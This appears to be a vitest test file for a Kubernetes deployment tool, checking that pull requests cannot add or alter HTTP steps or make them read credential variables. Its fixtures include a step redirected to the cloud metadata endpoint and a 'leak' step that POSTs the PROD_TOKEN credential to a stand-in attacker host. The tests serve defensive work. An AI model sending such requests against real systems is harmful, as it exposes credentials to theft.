// kind: http requests on pull request events come from the base branch (threat model rule 2): a head may not add
// one, change one, or make one read an environment variable (a credential) that the base's spec does not read.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { prepareRun } from '../../../src/pipeline.js';
import { applyBaseCredentials } from '../../../src/preview/trusted-clusters.js';
import { defaultSettings, type Settings } from '../../../src/settings/types.js';

const workspace = mkdtempSync(path.join(tmpdir(), 'k8deployer-trusted-steps-'));
afterAll(() => rmSync(workspace, { recursive: true, force: true }));

const baseSpec = `app: shop
namespace: shop
components:
  - name: web
    image: nginx:1.27
    port: 8080
  - name: smoke
    depends: [web]
    http: { url: "https://shop.example.com/health" }
clusters:
  - name: prod
    kubeconfig:
      server: https://prod.k8s.example.com:6443
      tokenEnv: PROD_TOKEN
`;

async function trust(headSpec: string) {
  const specPath = path.join(workspace, 'k8deployer.yaml');
  mkdirSync(path.dirname(specPath), { recursive: true });
  writeFileSync(specPath, headSpec);
  const settings: Settings = { ...defaultSettings, command: 'plan', specPath, clusters: [] };
  const prepared = await prepareRun(settings, { env: {}, missingSecrets: 'placeholder' });
  // The base is read from a local string here: how it is fetched is trusted-clusters.test.ts's subject.
  return applyBaseCredentials(prepared, {
    specPath,
    workspace,
    baseSha: '9049f1265b7d61be4a8904a9a27120d2064dab3b',
    readBase: () => Promise.resolve(baseSpec),
    specOptions: {},
    tempDir: workspace,
  });
}

describe('kind: http steps on pull request events', () => {
  it('an unchanged step passes', async () => {
    await expect(trust(baseSpec)).resolves.toEqual({ changed: [], added: [] });
  });

  it('a head that points a step elsewhere is refused', async () => {
    await expect(
      trust(baseSpec.replace('shop.example.com/health', '169.254.169.254/latest/meta-data')),
    ).rejects.toThrow(
      'this pull request changes the request of the kind: http step smoke; on pull request events kind: http requests come only from the base branch',
    );
  });

  it("a head that adds a step sending a credential's variable is refused for both", async () => {
    const head = baseSpec.replace(
      'clusters:',
      `  - name: leak
    http:
      method: POST
      url: https://evil.example.net/
      headers: { X-Token: { valueEnv: PROD_TOKEN } }
clusters:`,
    );
    await expect(trust(head)).rejects.toThrow(
      /environment variable\(s\) PROD_TOKEN, which the base branch's spec does not read/,
    );
    await expect(trust(head.replace('valueEnv: PROD_TOKEN', 'valueEnv: NOT_READ'))).rejects.toThrow(/NOT_READ/);
    await expect(trust(head.replace('headers: { X-Token: { valueEnv: PROD_TOKEN } }', ''))).rejects.toThrow(
      'this pull request adds the kind: http step leak',
    );
  });
});
